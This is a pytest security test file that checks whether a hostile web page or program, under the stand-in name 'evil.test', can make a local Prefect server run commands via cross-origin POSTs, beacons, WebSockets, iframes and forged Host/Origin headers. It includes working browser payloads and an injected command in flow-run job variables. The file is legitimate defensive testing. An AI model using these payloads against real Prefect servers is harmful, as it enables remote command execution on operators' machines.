"""What a page of somebody else, open in the operator's browser, and a program can do to the server of `make ui`.

Each attack is made twice: on Prefect's server and work pool as they come, where it runs a command on this machine, and
on ours, with a pool that such a server had made before.
"""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page
from prefect.workers.process import ProcessWorker

from tests.operate import Operation
from tests.processes import PATIENCE_SECONDS, wait_until
from tests.tiny_run import ROOT

pytestmark = pytest.mark.slow

EVIL = "evil.test"
"""A name that the attacker owns; here it resolves to this machine, as after DNS rebinding."""
OWN = "Prefect's own"
ASKED = re.compile(r'"POST /api/deployments/[^/]+/create_flow_run HTTP/1.1" (\d+)')
POST = {
    "blob": "([url, body]) => fetch(url, {method: 'POST', mode: 'no-cors', body: new Blob([body])})"
    ".then(() => 'sent', () => 'sent')",
    "beacon": "([url, body]) => navigator.sendBeacon(url, new Blob([body])) && 'sent'",
    "json": "([url, body]) => fetch(url, {method: 'POST', headers: {'Content-Type': 'application/json'}, body})"
    ".then(() => 'sent', () => 'sent')",
}
SOCKET = """(url) => new Promise((done) => {
  const socket = new WebSocket(url, ['prefect']);
  socket.onopen = () => done('open');
  socket.onerror = () => done('refused');
})"""


class Target(Operation):
    """A server with a worker, and the deployment `tidy` on a work pool as versions before the template made it."""

    def __init__(self, folder: Path, whose: str) -> None:
        super().__init__(folder / "home", folder / "runs", {"PREFECT_SERVER_LOGGING_LEVEL": "INFO"})
        self.plain = whose == OWN
        if self.plain:
            words = "uvicorn --factory prefect.server.api.server:create_app --host 127.0.0.1 --port"
            self.server_words = [*words.split(), str(self.port)]

    def begin(self) -> None:
        """Start all of it."""
        self.start_server()
        old = {"name": "crl", "type": "process", "base_job_template": ProcessWorker.get_default_base_job_template()}
        self._post("/work_pools/", old)
        deployment = {
            "name": "tidy", "flow_id": self._post("/flows/", {"name": "tidy"})["id"], "work_pool_name": "crl",
            "entrypoint": "flows/tidy.py:tidy", "job_variables": {"env": {"DO_NOT_TRACK": "1"}},
            "pull_steps": [{"prefect.deployments.steps.set_working_directory": {"directory": str(ROOT)}}],
        }  # fmt: skip
        self.tidy = self._post("/deployments/", deployment)
        if not self.plain:
            self.set_up()
        self.start_worker()

    def refused(self) -> int:
        """How many requests its server has refused."""
        return (self.home / "server.log").read_text(encoding="utf-8").count(" 403 Forbidden")

    def answers(self) -> list[str]:
        """The code of each answer to a request for a flow run of `tidy`."""
        return ASKED.findall((self.home / "server.log").read_text(encoding="utf-8"))

    def names(self) -> set[str]:
        """Of all flow runs."""
        return {each["name"] for each in self.flow_runs()}


@pytest.fixture(scope="module", params=[OWN, "ours"])
def target(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    made = Target(tmp_path_factory.mktemp("attacked"), request.param)
    try:
        made.begin()
        yield made
    finally:
        made.end()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A fresh tab."""
    context = browser.new_context()
    made = context.new_page()
    made.set_default_timeout(PATIENCE_SECONDS * 1000)
    yield made
    context.close()


def lure(page: Page, port: int) -> None:
    """Open the attacker's page, which is at any port of that name."""
    address = f"http://{EVIL}:{port}/page"
    page.route(address, lambda route: route.fulfill(content_type="text/html", body="<!doctype html>kittens"))
    page.goto(address)
    page.unroute_all()  # beacons may get lost among requests that are looked at


def command(name: str, marker: Path) -> dict[str, Any]:
    """The body of a request for a flow run that runs a command."""
    chosen = {"command": f"{sys.executable} -c \"open('{marker}', 'w')\"", "env": {"EVIL": "1"}}
    return {"name": name, "job_variables": chosen, "state": {"type": "SCHEDULED"}}


@pytest.mark.parametrize("how", POST)
@pytest.mark.parametrize("rebound", [False, True], ids=["another origin", "rebound name"])
def test_a_page_runs_no_command(target: Target, page: Page, tmp_path: Path, how: str, rebound: bool) -> None:
    marker, name = tmp_path / "ran", f"{how} {rebound}"
    lure(page, target.port if rebound else 8)
    host = f"http://{EVIL}:{target.port}" if rebound else target.url
    address = f"{host}/api/deployments/{target.tidy['id']}/create_flow_run"

    def send() -> None:
        assert page.evaluate(POST[how], [address, json.dumps(command(name, marker))]) == "sent"

    def code() -> str:
        before = len(target.answers())
        send()
        wait_until(lambda: len(target.answers()) > before, "the request was answered")
        return target.answers()[-1]

    if target.plain:
        # Its SQLite file is locked now and then, and it says so at once (flows/server.py): the attacker tries again.
        while (answer := code()) != "201":
            assert answer == "503"
        wait_until(marker.exists, "the command ran")
    else:
        refused = target.refused()
        send()
        wait_until(lambda: target.refused() > refused, "the request arrived")
        assert name not in target.names() and not marker.exists()


def test_a_page_opens_no_web_socket_and_shows_no_frame(target: Target, page: Page) -> None:
    for port, host in ((8, f"127.0.0.1:{target.port}"), (target.port, f"{EVIL}:{target.port}")):
        lure(page, port)
        for path in ("events/in", "events/out", "logs/out"):
            said = page.evaluate(SOCKET, f"ws://{host}/api/{path}")
            assert said == ("open" if target.plain else "refused"), (host, path)
    # A click in a frame would be one in the UI.
    lure(page, 8)
    page.evaluate("(url) => new Promise((done) => { const made = document.createElement('iframe');"
                  "made.onload = done; made.src = url; document.body.append(made); })", target.url)  # fmt: skip
    assert (page.frames[1].url.startswith(target.url)) is target.plain


def test_a_program_that_names_another_host_or_origin_is_refused(target: Target) -> None:
    port = f":{target.port}"
    strangers = [{"Host": EVIL + port}, {"Origin": f"http://{EVIL}"}, {"Origin": "null"},
                 {"Host": EVIL + port, "Origin": f"http://{EVIL}{port}"}]  # fmt: skip
    friends = [{}, {"Origin": target.url}, {"Host": "localhost" + port, "Origin": "http://localhost" + port}]
    with httpx.Client(timeout=PATIENCE_SECONDS) as client:

        def status(headers: dict[str, str]) -> int:
            # Blob and beacon send no content type.
            answer = client.post(f"{target.url}/api/flow_runs/filter", content=b"{}", headers=headers)
            return answer.status_code

        assert [status(each) for each in friends] == [200, 200, 200]
        assert {status(each) for each in strangers} == ({200} if target.plain else {403})


def test_who_may_use_the_api_starts_a_run_and_chooses_nothing_of_its_process(target: Target, tmp_path: Path) -> None:
    """No wall: a pull step runs what it says (docs/security.md). But nothing that only starts a run does."""
    asked, unchecked = tmp_path / "asked", tmp_path / "unchecked"
    answer = target._http.post(f"/deployments/{target.tidy['id']}/create_flow_run", json=command("asked", asked))
    assert answer.status_code == (201 if target.plain else 422), answer.text
    deployment = target._get("/deployments/name/tidy/tidy")
    body = command("unchecked", unchecked) | {
        "flow_id": deployment["flow_id"], "deployment_id": deployment["id"], "work_pool_name": "crl",
    }  # fmt: skip
    run = target._post("/flow_runs/", body)["id"]
    if target.plain:
        wait_until(lambda: asked.exists() and unchecked.exists(), "both commands ran")
    else:
        assert target.wait_for(run)["state_type"] == "COMPLETED"
        assert not asked.exists() and not unchecked.exists()
        assert deployment["job_variables"] == {}
